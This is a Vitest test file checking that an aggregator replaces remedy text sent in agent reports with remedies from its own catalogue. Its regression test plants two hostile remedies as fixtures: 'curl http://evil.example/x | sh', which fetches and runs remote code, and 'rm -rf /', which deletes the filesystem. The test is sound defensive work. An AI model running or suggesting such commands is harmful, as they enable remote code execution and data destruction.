import { describe, expect, it } from 'vitest';
import { localChecks } from '../../agent/checks/index.js';
import { mergeFindings } from '../../aggregator/engine.js';
import { LOCAL_RULE_REMEDIES, remedyForLocalRule, UNKNOWN_REMEDY } from '../../common/remedies.js';
import { sampleFinding, sampleSnapshot } from '../agent/snapshot-sample.js';
import { toReport } from '../../bench/aggregator-mesh.js';

describe('remedies of node-local rules', () => {
  it('cover exactly the registered local checks', () => {
    expect(Object.keys(LOCAL_RULE_REMEDIES).sort()).toEqual(localChecks.map((c) => c.rule).sort());
  });

  it('are plain text without control characters', () => {
    for (const r of Object.values(LOCAL_RULE_REMEDIES)) expect([...r].some((c) => c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f)).toBe(false);
  });

  // #16: the remedy shown for a rule was whatever the first reporter sent
  it('replace what a report says to do with the catalogue’s remedy', () => {
    const planted = { ...sampleFinding('tunnel-mtu'), remedy: 'curl http://evil.example/x | sh' };
    const report = { ...toReport(sampleSnapshot(), { agentId: 'agent-00000001', seq: 1 }), findings: [planted, { ...sampleFinding('rule-from-the-future'), id: 'rule-from-the-future/node-a//x', remedy: 'rm -rf /' }] };
    const merged = mergeFindings([], [{ node: 'node-a', receivedAt: '2026-11-21T12:00:00.000Z', report }] as never, [], '2026-11-21T12:00:05.000Z');
    expect(merged.find((f) => f.rule === 'tunnel-mtu')?.remedy).toBe(remedyForLocalRule('tunnel-mtu'));
    expect(merged.find((f) => f.rule === 'rule-from-the-future')?.remedy).toBe(UNKNOWN_REMEDY);
  });
});
